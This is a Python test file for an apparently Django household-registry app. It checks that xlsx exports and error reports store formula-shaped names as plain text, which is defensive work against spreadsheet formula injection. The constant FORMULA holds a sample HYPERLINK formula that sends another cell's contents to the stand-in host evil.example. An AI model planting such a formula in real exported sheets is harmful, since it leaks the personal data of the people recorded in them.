"""Every xlsx the app writes keeps text as text: a name that looks like a formula stays a name."""

from __future__ import annotations

import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from core.spreadsheets import Sheet, xlsx_bytes
from households.imports import error_report, export_workbook
from households.models import Household, Member
from tests.factories import make_household

FORMULA = '=HYPERLINK("http://evil.example/?q="&E2,"点击查看")'


def _cells(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def test_a_formula_is_written_as_text_and_numbers_stay_numbers() -> None:
    rows = _cells(
        xlsx_bytes([Sheet(title="t", header=["a", "b", "c"], rows=[[FORMULA, Decimal("12.50"), 7]])])
    )
    assert rows[1] == [(FORMULA, "s"), (12.5, "n"), (7, "n")]


@pytest.mark.django_db
def test_the_household_export_keeps_a_formula_shaped_name_as_text(county: Any) -> None:
    # given: a head of household whose name is a formula
    household = make_household(county.village_a1)
    household.refresh_from_db()
    Member.objects.filter(pk=household.head_id).update(name=FORMULA)
    households = Household.objects.select_related("village__parent", "head").filter(pk=household.pk)

    # when
    rows = _cells(export_workbook(households, full_ids=False))

    # then: the name is a string cell; nothing in the sheet is a formula
    assert (FORMULA, "s") in rows[1]
    assert all(kind != "f" for row in rows for _value, kind in row)


def test_the_error_report_keeps_a_formula_in_a_message_as_text() -> None:
    rows = _cells(error_report([(2, "身份证号", "校验位错误"), (3, "姓名", f"“{FORMULA}”不是有效的姓名")]))
    assert [r[0][0] for r in rows[1:]] == [2, 3]
    assert all(kind != "f" for row in rows for _value, kind in row)
